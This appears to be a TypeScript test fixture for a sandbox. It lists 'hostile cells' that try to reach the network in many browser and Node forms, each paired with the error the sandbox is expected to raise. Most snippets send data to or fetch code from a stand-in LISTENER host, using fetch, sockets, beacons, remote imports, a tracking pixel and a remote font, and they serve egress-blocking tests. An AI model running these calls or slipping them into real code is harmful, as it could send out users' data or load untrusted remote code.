/** Hostile cells that try to reach the network, in every form that a browser has. */
import { hostile } from './hostile-cell.ts';

const OUTSIDE = /reaches only its own processes and brokers/;

export const network = [
  hostile(
    'fetch to another host',
    /fetch|https/,
    1,
    `
await fetch('http://LISTENER/stolen?by=fetch');
`,
  ),
  hostile(
    'fetch to a public name',
    /fetch|https/,
    1,
    `
await fetch('https://example.com/stolen');
`,
  ),
  hostile(
    'fetch of the page itself',
    /Invalid URL|parse URL/,
    1,
    `
await fetch('/index.html');
`,
  ),
  hostile(
    'WebSocket',
    OUTSIDE,
    1,
    `
new WebSocket('ws://LISTENER/socket');
`,
  ),
  hostile(
    'XMLHttpRequest',
    OUTSIDE,
    1,
    `
const request = new XMLHttpRequest();
request.open('GET', 'http://LISTENER/xhr', false);
request.send();
`,
  ),
  hostile(
    'EventSource',
    OUTSIDE,
    1,
    `
new EventSource('http://LISTENER/events');
`,
  ),
  hostile(
    'WebTransport',
    OUTSIDE,
    1,
    `
new WebTransport('https://LISTENER/transport');
`,
  ),
  hostile(
    'RTCPeerConnection',
    OUTSIDE,
    1,
    `
new RTCPeerConnection({ iceServers: [{ urls: 'stun:LISTENER' }] });
`,
  ),
  hostile(
    'sendBeacon',
    /navigator|undefined|not a function/,
    1,
    `
(navigator as any).sendBeacon('http://LISTENER/beacon', 'secret');
`,
  ),
  hostile(
    'importScripts',
    /importScripts/,
    1,
    `
(importScripts as any)('http://LISTENER/script.js');
`,
  ),
  hostile(
    'import of a URL as text',
    /LISTENER|127\.0\.0\.1|localhost|not a module|cannot be imported|unknown module/i,
    1,
    `
import 'http://LISTENER/module.js';
`,
  ),
  hostile(
    'import() of a URL',
    /import|module/i,
    null,
    `
const address = 'http://LISTENER/' + 'module.js';
await import(address);
`,
  ),
  hostile(
    'node:net to a real address',
    /ENOTFOUND|ECONNREFUSED|ETIMEDOUT/,
    null,
    `
import net from 'node:net';
const socket = net.connect(Number('LISTENER'.split(':')[1]), 'LISTENER'.split(':')[0]);
socket.on('error', (error) => console.log('refused:', error.message));
`,
  ),
  hostile(
    'a tracking pixel',
    /Image/,
    1,
    `
new (globalThis as any).Image().src = 'http://LISTENER/pixel.gif';
`,
  ),
  hostile(
    'a style sheet from elsewhere',
    /document|FontFace|not defined|not a constructor/,
    1,
    `
new FontFace('Spy', 'url(http://LISTENER/font.woff2)').load();
`,
  ),
];
